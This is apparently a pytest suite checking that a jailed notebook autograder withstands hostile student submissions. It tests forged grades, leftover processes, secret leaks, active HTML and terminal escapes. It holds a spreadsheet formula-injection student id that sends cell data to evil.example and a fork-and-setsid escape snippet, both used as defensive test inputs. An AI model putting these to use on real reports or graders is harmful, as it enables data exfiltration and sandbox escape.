"""The attack class: hostile submissions (autograde/attacks/) graded through the real pipeline, in the jail, by
`backprop-ninja grade --jobs 2` and by plain `nbgrader autograde` (one process for the class, in turn).

A throwaway copy of the course grades honest classmates beside every attacker. A secure grader shows:
each attacker scores what the honest part of their answer earns (a deliberate mistake in nll_loss makes
a forged grade visible), classmates keep full marks, the gradebook's schema and every file outside the
attackers' own output are unchanged, no process survives, and the feedback holds no solution line, no
secret and no active HTML, and stays small.
"""
import asyncio
import csv
import hashlib
import html
import json
import os
import re
import shutil
import socket
import sqlite3
import subprocess
import sys
import sysconfig
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest
from nbconvert import HTMLExporter
from nbgrader.api import Gradebook

from ninja_autograde import course, doctor, gradebook, grading, replay, report, secret, submissions
from ninja_autograde.sandbox import cgroup, jail
from ninja_autograde.sandbox.kernel import GraderKernelManager

A = "02_softmax_nll"
NB = course.ASSIGNMENTS[A]
ATTACKS = course.REPO / "autograde" / "attacks" / A
FORMULA_ID = '=HYPERLINK("https:"&CHAR(47)&CHAR(47)&"evil.example?"&A1,"grace")'   # a student id a spreadsheet runs
HONEST = ("honest_ada", "honest_grace", FORMULA_ID)
MARKER = "backprop-ninja-attack"   # in the command line of every process an attack starts
TOKEN = "fake-jupyterhub-api-token-3f9a1c"
GRADER_LINES = [ln.strip() for ln in (course.REPO / "autograde/ninja_autograde/referee.py").read_text().splitlines()
                if len(ln.strip()) > 40 and not ln.strip().startswith("#")]
SOURCES = [course.REPO / "nbgrader_config.py", *course.REPO.glob("autograde/ninja_*/*.py"),
           *course.REPO.glob("backprop_ninja/**/*.py")]


def tree(folder, skip=("gradebook.db",)):
    """path -> sha256 of every file (and symlink target) under folder."""
    found = {}
    for path in sorted(Path(folder).rglob("*")):
        rel = str(path.relative_to(folder))
        if path.is_symlink():
            found[rel] = "-> " + os.readlink(path)
        elif path.is_file() and not rel.startswith(skip):
            found[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def schema(folder):
    with sqlite3.connect(Path(folder) / "gradebook.db") as db:
        return sorted(db.execute("select type, name, sql from sqlite_master"))


def runtime_folders():
    return {p for p in Path(os.environ.get("TMPDIR", "/tmp")).glob("backprop-ninja-kernel-*") if p.is_dir()}


def attack_cases():
    return [submissions.load_case(p) for p in sorted(ATTACKS.glob("*.py"))]


GRADERS = ["backprop-ninja grade --jobs 2", "nbgrader autograde"]


def grade_class(folder, grader):
    """{student: grading.Graded} of the whole class graded by one of the GRADERS."""
    if grader == GRADERS[0]:
        return {o.student: o for o in grading.grade(A, folder, jobs=2, progress=False)}
    log = course.nbgrader("autograde", A, cwd=folder, check=False)   # one process, one student after another
    said = log.stdout + log.stderr
    return {s: grading.Graded(s, ok, 0.0, "" if ok else said) for s in grading.submissions(folder, A)
            for ok in [(folder / "autograded" / s / A / NB).exists()]}


@pytest.fixture(scope="module", params=GRADERS)
def graded(tmp_path_factory, request):
    assert not jail.why_not(), jail.FIX.format(why=jail.why_not())
    folder = course.scratch_course(tmp_path_factory.mktemp("jail"), [A])
    with open(folder / "nbgrader_config.py", "a") as config:
        config.write("\nc.GraderExecute.timeout = 60\n")
    release = course.read_notebook(folder, "release", A)
    solutions = submissions.solution_cells(course.read_notebook(folder, "source", A))
    for student in HONEST:
        submissions.write_submission(folder, student, A, NB, submissions.student_notebook(release, {}, solutions))
    listener, unix = socket.socket(), socket.socket(socket.AF_UNIX)
    abstract = f"backprop-ninja-test-{os.getpid()}"
    listener.bind(("127.0.0.1", 0))
    unix.bind("\0" + abstract)   # an abstract Unix socket: no file, only a network namespace keeps it out
    for s in (listener, unix):
        s.listen()
        s.setblocking(False)
    target = {"course": str(folder), "repo": str(course.REPO), "port": listener.getsockname()[1], "abstract": abstract}
    cases = {f"attack_{c.name}": c for c in attack_cases()}
    for student, case in cases.items():
        nb = submissions.student_notebook(release, case.answers, solutions)
        sub = submissions.write_submission(folder, student, A, NB, nb, case)
        (sub / "target.json").write_text(json.dumps(target))
    secret.load(folder / ".grader" / "secret")   # the course secret exists before any student runs
    with Gradebook(grading.db_url(folder)) as gb:  # and the verdicts' table, which the first graded notebook adds
        gradebook.ensure_table(gb.engine)
    before = {"course": tree(folder), "schema": schema(folder), "runtime": runtime_folders(),
              "sources": {str(p): p.read_bytes() for p in SOURCES},
              "site": sorted(os.listdir(sysconfig.get_paths()["purelib"]))}
    os.environ["JUPYTERHUB_API_TOKEN"] = TOKEN
    try:
        outcomes = grade_class(folder, request.param)
    finally:
        del os.environ["JUPYTERHUB_API_TOKEN"]
    time.sleep(8)   # an escaped process would strike a few seconds after its kernel ended
    reached = []
    for s in (listener, unix):
        try:
            s.accept()
            reached.append(s.family.name)
        except BlockingIOError:
            pass
        s.close()
    course.nbgrader("generate_feedback", A, "--force", cwd=folder)
    return folder, cases, outcomes, before, reached


def test_the_jail_works_here(tmp_path):
    # another grader's kernel beside the doctor, its runtime folder just removed: not the doctor's survivor
    beside = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)",
                               str(tmp_path / "backprop-ninja-kernel-gone" / "kernel.json")])
    try:
        rows = doctor.examine(course.REPO)
    finally:
        beside.kill()
    # Linux does not hold root to RLIMIT_NPROC, even in a user namespace: a root grader needs a pids cgroup
    # (made where the grader may), else doctor says the cap is missing, as it should
    exempt = {"process cap"} if os.getuid() == 0 and not cgroup.own_groups().get("pids") else set()
    if not cgroup.own_groups() and not cgroup.user_scopes():   # no cgroup here: doctor says what that leaves open
        exempt |= {name for name, _, detail in rows if doctor.NO_CGROUP in detail}
    assert all(active or name in exempt for name, active, _ in rows), [r for r in rows if not r[1]]
    assert len(rows) > 10


def test_attackers_score_only_what_their_honest_part_earns(graded):
    folder, cases, outcomes, _, _ = graded
    results = {r.student: r for r in report.collect(folder, A)}
    for student in HONEST:
        assert outcomes[student].success and results[student].score == results[student].max_score == 15, student
    for student, case in cases.items():
        if case.links:   # symbolic links in a submission: refused before anything runs
            assert not outcomes[student].success and "symbolic link" in outcomes[student].error, student
            continue
        assert outcomes[student].success, f"{student}: {outcomes[student].error}"
        failed = {t for t, (score, most) in results[student].tests.items() if score < most}
        assert failed == case.fails, f"{student} failed {sorted(failed)}, expected {sorted(case.fails)}"


def test_forks_holding_memory_together_meet_the_whole_jails_cap_and_are_told(graded):
    folder = graded[0]
    said = json.dumps(course.read_notebook(folder / "autograded", "attack_holds_memory_in_forks", A).dict())
    assert "GiB held together: 4" not in said and "GiB held together:" in said
    assert "memory limit (2 GiB for all its processes together)" in said


def test_nothing_outside_the_attackers_output_changed(graded):
    folder, cases, _, before, reached = graded
    after = tree(folder)
    changed = [p for p, digest in before["course"].items() if after.get(p) != digest]
    assert not changed, f"changed or removed: {changed}"
    new = [p for p in set(after) - set(before["course"]) if not p.startswith(("autograded/", "feedback/"))]
    assert not new, f"new files: {new}"
    assert schema(folder) == before["schema"], "the gradebook's schema changed (a trigger?)"
    with sqlite3.connect(folder / "gradebook.db") as db:
        assert db.execute("select count(*) from grade where manual_score is not null").fetchone()[0] == 0
    assert {str(p): p.read_bytes() for p in SOURCES} == before["sources"]
    assert sorted(os.listdir(sysconfig.get_paths()["purelib"])) == before["site"]
    assert not reached, f"a kernel reached a socket of the grader's machine: {reached}"


def orphans():
    """Processes that carry the attacks' marker, or name the runtime folder of a student kernel that is gone and
    run this checkout's Python (a grader of another checkout beside this test, whose kernels come and go, is not
    this test's business)."""
    found = set(doctor.survivors(MARKER))
    for entry in Path("/proc").iterdir():
        try:
            cmdline = (entry / "cmdline").read_bytes().decode(errors="replace") if entry.name.isdigit() else ""
        except OSError:
            continue
        if sys.prefix in cmdline and any(not Path(f).exists()
                                         for f in re.findall(r"(/\S*/backprop-ninja-kernel-\w+)/kernel.json", cmdline)):
            found.add(int(entry.name))
    return found


def used_by_others():
    """The kernel runtime folders named by a live process of another checkout's Python (a grader beside this test)."""
    used = set()
    for entry in Path("/proc").iterdir():
        try:
            cmdline = (entry / "cmdline").read_bytes().decode(errors="replace") if entry.name.isdigit() else ""
        except OSError:
            continue
        if sys.prefix not in cmdline:
            used |= {Path(f) for f in re.findall(r"(/\S*/backprop-ninja-kernel-\w+)/kernel.json", cmdline)}
    return used


def test_no_process_outlives_its_notebook(graded):
    left = {pid: Path(f"/proc/{pid}/cmdline").read_bytes()[:300] for pid in orphans()}
    assert not left, f"processes outlived their notebook: {left}"
    behind = runtime_folders() - graded[3]["runtime"] - used_by_others()
    for _ in range(20):   # one still being removed as the grader's last worker exits is not left behind
        behind = {folder for folder in behind if folder.exists()}
        time.sleep(0.5 if behind else 0)
    assert not behind, f"a kernel's runtime folder was left behind: {behind}"


def test_a_kernel_killed_after_its_last_cell_takes_its_processes_and_cgroup_along(tmp_path):
    """The grader kills a kernel once its last cell has run (GraderExecute.shutdown_kernel)."""
    async def start_and_kill():
        km = GraderKernelManager(kernel_name="python3")
        await km.start_kernel(cwd=str(tmp_path))
        client = km.client()
        client.start_channels()
        await client.wait_for_ready(timeout=60)
        escape = "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(600)"
        await client.execute_interactive(escape, timeout=60)
        group, runtime = km.group, km.runtime
        await km.shutdown_kernel(now=True)
        client.stop_channels()
        return group, runtime
    group, runtime = asyncio.run(start_and_kill())
    assert group is None or not any(p.exists() for p in group.paths.values()), "the kernel's cgroups were left behind"
    assert not [p for p in Path("/proc").glob("[0-9]*/cmdline") if str(runtime).encode() in read_or_empty(p)]
    assert not runtime.exists()


def read_or_empty(path):
    try:
        return path.read_bytes()
    except OSError:   # the process ended meanwhile
        return b""


class Page(HTMLParser):
    """Of an HTML page: every URL (tag, attribute, value), every event handler, the text of every inline script."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.urls, self.handlers, self.scripts, self._in_script = [], [], [], False
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.urls += [(tag, n, v or "") for n, v in attrs if n in ("href", "src", "action", "formaction", "srcset")]
        self.handlers += [(tag, n, v) for n, v in attrs if n.startswith("on")]
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts.append(data)


def inert_url(tag, name, value):
    """A destination that runs nothing: http(s), mailto, a fragment; for an image also embedded PNG or JPEG."""
    value = re.sub(r"[\x00-\x20]", "", value).lower()
    return (value.startswith(("#", "http://", "https://", "mailto:"))
            or tag == "img" and name == "src" and value.startswith(("data:image/png;base64,", "data:image/jpeg;base64,")))


def test_feedback_and_the_formgraders_pages_hold_no_secret_and_no_active_html(graded, secret_lines):
    folder, cases, _, _, _ = graded
    for student, case in cases.items():
        pages = list(folder.glob(f"feedback/{student}/{A}/*.html"))
        assert pages or case.links, f"no feedback for {student}"   # a page nbconvert could not render is none
        for page in pages:
            text = page.read_text()
            visible = html.unescape(re.sub(r"<[^>]+>", "", text))
            wrote = "\n".join(c.source for c in course.read_notebook(folder / "submitted", student, A).cells)
            leaks = sorted(line for line in secret_lines if line in visible and line not in wrote)
            assert not leaks, f"{student}'s feedback shows solution or hidden-test lines: {leaks[:3]}"
            for hidden in (TOKEN, "honest_ada", *GRADER_LINES):
                assert hidden not in visible or hidden in wrote, f"{student}'s feedback shows {hidden!r}"
            assert page.stat().st_size < 1_500_000, f"{page} is {page.stat().st_size} bytes"
        # the Formgrader shows the autograded notebook through nbconvert's classic template, as the instructor
        autograded = folder / "autograded" / student / A / NB
        shown = [HTMLExporter(template_name="classic").from_filename(str(autograded))[0]] if autograded.exists() else []
        for text in [p.read_text() for p in pages] + shown:
            parsed = Page(text)
            assert not parsed.handlers, f"{student}: {parsed.handlers[:3]}"
            assert not [u for u in parsed.urls if not inert_url(*u)], f"{student}: {[u for u in parsed.urls if not inert_url(*u)][:3]}"
            assert not [s for s in parsed.scripts if "BACKPROP_NINJA_PWNED" in s], student
    notebook = folder / "autograded" / "attack_floods_displays_and_scripts" / A / NB
    outputs = [o for c in course.read_notebook(folder / "autograded", "attack_floods_displays_and_scripts", A).cells
               for o in c.get("outputs", [])]
    assert notebook.stat().st_size < 1_500_000
    assert all(set(o.get("data", {})) <= {"text/plain", "image/png", "image/jpeg"} for o in outputs)


CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def test_what_reaches_the_instructors_terminal_is_printable(graded):
    """Escapes in an exception, in printed output and in forged test ids: the gradebook's comments, the report and
    `backprop-ninja replay` show them as text; replay grades the notebook as sanitised, and says whose verdict it is."""
    folder, cases, _, _, _ = graded
    with sqlite3.connect(folder / "gradebook.db") as db:
        comments = [c for (c,) in db.execute("select auto_comment from comment where auto_comment is not null")]
    assert "\\x1b" in "".join(comments) and not [c for c in comments if CONTROL.search(c)]
    assert not CONTROL.search(report.summary(report.collect(folder, A), A))
    replayed = replay.replay(folder, A, "attack_forges_test_ids_and_escapes")
    released = [c.metadata.nbgrader["grade_id"] for c in course.read_notebook(folder, "release", A).cells
                if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code"]
    assert [r.test for r in replayed] == released   # the forged hidden test is the student's own cell, ungraded
    assert {r.test for r in replayed if r.verdict} == cases["attack_forges_test_ids_and_escapes"].fails
    assert not [r for r in replayed if r.verdict and r.judged]   # each failed in the visible check, not on hidden data
    shown = replay.show(replayed)
    assert "\\x1b[2K" in shown and not CONTROL.search(shown)


def test_a_student_id_that_is_a_formula_is_text_in_the_report(graded, tmp_path):
    with open(report.write_csv(report.collect(graded[0], A), tmp_path / "report.csv"), newline="") as f:
        rows = list(csv.reader(f))
    assert [row[0] for row in rows if "HYPERLINK" in row[0]] == ["'" + FORMULA_ID]
    assert not [cell for row in rows for cell in row if cell.startswith(report.FORMULA) and not cell[1:].replace(".", "").isdigit()]


@pytest.fixture
def one_student(tmp_path):
    folder = course.scratch_course(tmp_path, [A])
    release = course.read_notebook(folder, "release", A)
    solutions = submissions.solution_cells(course.read_notebook(folder, "source", A))
    submissions.write_submission(folder, "ada", A, NB, submissions.student_notebook(release, {}, solutions))
    return folder


def test_without_a_working_jail_grading_refuses_and_says_how_to_fix_it(one_student, capsys):
    with open(one_student / "nbgrader_config.py", "a") as config:
        config.write('\nc.GraderKernelManager.bwrap = "/nonexistent/bwrap"\n')
    with pytest.raises(jail.JailUnavailable, match="apt-get install bubblewrap"):
        grading.grade(A, one_student, progress=False)
    result = course.nbgrader("autograde", A, "--student", "ada", cwd=one_student, check=False)
    assert result.returncode != 0 and "apt-get install bubblewrap" in result.stdout + result.stderr
    assert report.collect(one_student, A) == [] or report.collect(one_student, A)[0].score == 0
    # the loud opt-out: graded, warned about; even then a launcher shipped in the submission shadows nothing
    with open(one_student / "nbgrader_config.py", "a") as config:
        config.write('\nc.GraderKernelManager.jail = "none"\n')
    case = submissions.load_case(ATTACKS / "shadows_the_launcher.py")
    release = course.read_notebook(one_student, "release", A)
    solutions = submissions.solution_cells(course.read_notebook(one_student, "source", A))
    submissions.write_submission(one_student, "shadow", A, NB,
                                 submissions.student_notebook(release, case.answers, solutions), case)
    assert all(o.success for o in grading.grade(A, one_student, progress=False))
    assert "WITHOUT a jail" in capsys.readouterr().err
    assert {r.student: r.score for r in report.collect(one_student, A)} == {"ada": 15, "shadow": 11}


def test_plain_nbgrader_autograde_grades_in_the_jail_and_refuses_links(one_student):
    release = course.read_notebook(one_student, "release", A)
    solutions = submissions.solution_cells(course.read_notebook(one_student, "source", A))
    for name in ("imports_exercises", "follows_symlinks"):
        case = submissions.load_case(ATTACKS / f"{name}.py")
        nb = submissions.student_notebook(release, case.answers, solutions)
        submissions.write_submission(one_student, name, A, NB, nb, case)
    course.nbgrader("autograde", A, "--student", "imports_exercises", cwd=one_student)
    assert {r.student: r.score for r in report.collect(one_student, A)}["imports_exercises"] == 11
    result = course.nbgrader("autograde", A, "--student", "follows_symlinks", cwd=one_student, check=False)
    assert result.returncode != 0 and "grades.txt is a symbolic link" in result.stdout + result.stderr
    assert not (one_student / "autograded" / "follows_symlinks" / A).exists()   # nbgrader removed what it copied


def test_a_copied_course_folder_grades_with_the_packages_its_kernel_imports(one_student):
    """A course folder copied for a new term holds its own backprop_ninja/, first on nbgrader's sys.path;
    the kernel imports the installed one, and the jail must bind that one."""
    shutil.copytree(course.REPO / "backprop_ninja", one_student / "backprop_ninja",
                    ignore=shutil.ignore_patterns("__pycache__"))
    course.nbgrader("autograde", A, "--student", "ada", cwd=one_student)
    assert {r.student: r.score for r in report.collect(one_student, A)} == {"ada": 15}
    assert all(o.success for o in grading.grade(A, one_student, progress=False))
    assert {r.student: r.score for r in report.collect(one_student, A)} == {"ada": 15}
    same = "grader and kernel use the same backprop_ninja"
    assert same_files(one_student, same) == (True, "same files")
    with open(one_student / "backprop_ninja" / "assistant.py", "a") as edited:
        edited.write("\n# edited in the copy\n")
    assert same_files(one_student, same) == (False, "the files differ")


def same_files(folder, check):
    """doctor's verdict on that check, and its detail's last words."""
    ok, detail = {name: (ok, detail) for name, ok, detail in doctor.imports(folder)}[check]
    return ok, detail.rsplit("; ", 1)[-1]


def test_a_kernel_that_cannot_import_the_course_stops_grading_with_the_reason(one_student, tmp_path, monkeypatch):
    spec = tmp_path / "kernels" / "kernels" / "python3"
    spec.mkdir(parents=True)
    (spec / "kernel.json").write_text(json.dumps({"argv": ["/usr/bin/python3", "-m", "ipykernel_launcher", "-f",
                                                           "{connection_file}"], "language": "python",
                                                  "display_name": "a Python without the course"}))
    monkeypatch.setenv("JUPYTER_PATH", str(tmp_path / "kernels"))
    before = runtime_folders()
    with pytest.raises(jail.KernelCannotImport, match="cannot import backprop_ninja"):
        grading.grade(A, one_student, progress=False)
    result = course.nbgrader("autograde", A, "--student", "ada", cwd=one_student, check=False)
    assert result.returncode != 0 and "cannot import backprop_ninja" in result.stdout + result.stderr
    assert not runtime_folders() - before - used_by_others(), "a kernel that never started left its runtime folder"
    assert not (one_student / "autograded" / "ada" / A).exists()
    assert [r.score for r in report.collect(one_student, A)] in ([], [0])
    rows = {name: ok for name, ok, _ in doctor.imports(one_student)}
    assert rows["kernel imports backprop_ninja and ninja_runner"] is False


def test_plain_nbgrader_autograde_outlives_answers_built_to_exhaust_the_grader(one_student):
    """nbgrader's own autograde grades the class in one process, one student after another: answers built to
    exhaust it (a zip bomb, huge messages) cost their sender the tests, and the classmate graded after them
    keeps full marks."""
    release = course.read_notebook(one_student, "release", A)
    solutions = submissions.solution_cells(course.read_notebook(one_student, "source", A))
    for name in ("sends_a_zip_bomb", "sends_huge_answers"):
        case = submissions.load_case(ATTACKS / f"{name}.py")
        submissions.write_submission(one_student, f"aa_{name}", A, NB, submissions.student_notebook(release, case.answers, solutions))
    course.nbgrader("autograde", A, cwd=one_student)
    assert {r.student: r.score for r in report.collect(one_student, A)} == {
        "aa_sends_a_zip_bomb": 7, "aa_sends_huge_answers": 7, "ada": 15}   # four forged tests: 1 + 1 + 1 + 3 points
    assert set(verdicts(one_student, "aa_sends_a_zip_bomb").values()) == {
        "no answer: member '0/out.npy' is compressed: answers travel uncompressed"}


def verdicts(folder, student):
    """grade_id -> the verdict in each graded cell of the student's autograded notebook that has one."""
    return {c.metadata.nbgrader["grade_id"]: o.evalue for c in course.read_notebook(folder / "autograded", student, A).cells
            if "nbgrader" in c.metadata for o in c.get("outputs", []) if o.output_type == "error"}


REFUSED = {   # the answer messages an attacker displayed in place of the hidden tests', refused unread, and why
    "sends_a_zip_bomb": ["is compressed"] * 4,
    "sends_huge_answers": ["the answer message is 69.3 MB, more than the grader reads", "has shape (2000000,)",
                           "has shape (1000000000000,)", "has 20000 members"],
    "sends_pickles_and_forged_names": ["holds object values", "'../../gradebook.db.npy' is not part of an answer",
                                       "holds <U3 values", "2 answer messages came back"],
}


def test_forged_answer_messages_are_refused_unread_with_the_reason(graded):
    folder = graded[0]
    for name, reasons in REFUSED.items():
        said = verdicts(folder, f"attack_{name}")
        tests = ["test_nll_random", "test_nll_extreme", "test_nll_unchanged", "test_backward_random"]
        assert all(reason in said[t] for t, reason in zip(tests, reasons)), (name, said)
